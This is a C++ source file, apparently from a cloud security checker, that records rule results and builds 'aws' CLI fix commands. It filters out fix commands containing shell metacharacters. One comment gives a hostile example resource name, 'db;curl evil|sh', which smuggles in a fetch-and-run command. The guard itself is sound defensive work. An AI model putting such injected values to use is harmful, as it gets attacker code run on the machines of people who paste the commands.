#include "check/check_context.h"

#include <cctype>
#include <stdexcept>

namespace kura::check {
namespace {

// Whether a fix command holds something a shell would run beyond the command
// printed: the rules splice the endpoint's names (ids, ARNs, engines) into
// it unquoted, and a hostile endpoint's "db;curl evil|sh" would run when
// the command is pasted. Nothing the rules write themselves uses these:
// their only operators are " && " and placeholders such as "<customer key>".
bool runsMoreThanPrinted(std::string_view fix) {
  for (size_t at = 0; at < fix.size(); ++at) {
    char c = fix[at];
    if (static_cast<unsigned char>(c) < 0x20 || c == 0x7f) return true;
    switch (c) {
      case '$':
      case '`':
      case ';':
      case '|':
      case '(':
      case ')':
      case '\\':
      case '>':
        return true;
      case '&':
        if (fix.substr(at, 3) != "&& " || at == 0 || fix[at - 1] != ' ') return true;
        ++at;
        break;
      case '<': {  // a placeholder for the reader to fill in: "<customer key>"
        size_t close = fix.find('>', at);
        if (close == std::string_view::npos) return true;
        for (char inside : fix.substr(at + 1, close - at - 1)) {
          if (!std::isalnum(static_cast<unsigned char>(inside)) && inside != ' ') return true;
        }
        at = close;
        break;
      }
      default:
        break;
    }
  }
  return false;
}

}  // namespace

const client::CallResult& CheckContext::read(std::string_view service, std::string_view operation,
                                             const nlohmann::json& input) {
  std::string key = std::string(service) + " " + std::string(operation) + " " + input.dump();
  auto it = answers_.find(key);
  if (it == answers_.end()) it = answers_.emplace(key, client_.callAll(service, operation, input)).first;
  return it->second;
}

void CheckContext::add(std::string_view ruleId, std::string resource, Outcome outcome, std::string detail,
                       std::string fix) {
  const Rule* rule = findRule(ruleId);
  // A rule id that is not in the catalogue is a programming error.
  if (rule == nullptr) throw std::logic_error("kura check: unknown rule " + std::string(ruleId));
  if (runsMoreThanPrinted(fix)) fix = "(none printed: the endpoint's names hold characters a shell would act on)";
  results_.push_back(RuleResult{rule, std::move(resource), outcome, std::move(detail), std::move(fix), {}});
}

void CheckContext::passed(std::string_view ruleId, std::string resource, std::string detail) {
  add(ruleId, std::move(resource), Outcome::Passed, std::move(detail), {});
}

void CheckContext::failed(std::string_view ruleId, std::string resource, std::string detail, std::string fix) {
  add(ruleId, std::move(resource), Outcome::Failed, std::move(detail), std::move(fix));
}

void CheckContext::notCheckable(std::string_view ruleId, std::string resource, std::string detail) {
  add(ruleId, std::move(resource), Outcome::NotCheckable, std::move(detail), {});
}

void CheckContext::unreadable(std::string_view ruleId, std::string resource, std::string_view what,
                              const client::CallError& error) {
  std::string why = error.notImplemented() ? "the endpoint does not implement it"
                    : error.accessDenied() ? "the credentials may not read it"
                                           : error.describe();
  notCheckable(ruleId, std::move(resource), std::string(what) + " could not be read: " + why);
}

std::string CheckContext::aws(std::string_view cliService) const {
  std::string out = "aws";
  if (!endpointUrl_.empty()) out += " --endpoint-url " + endpointUrl_;
  return out + " --region " + region() + " " + std::string(cliService);
}

void CheckContext::noteKeyUse(const std::string& keyReference, const std::string& resource) {
  if (!keyReference.empty()) keyUses_[keyReference].insert(resource);
}

}  // namespace kura::check
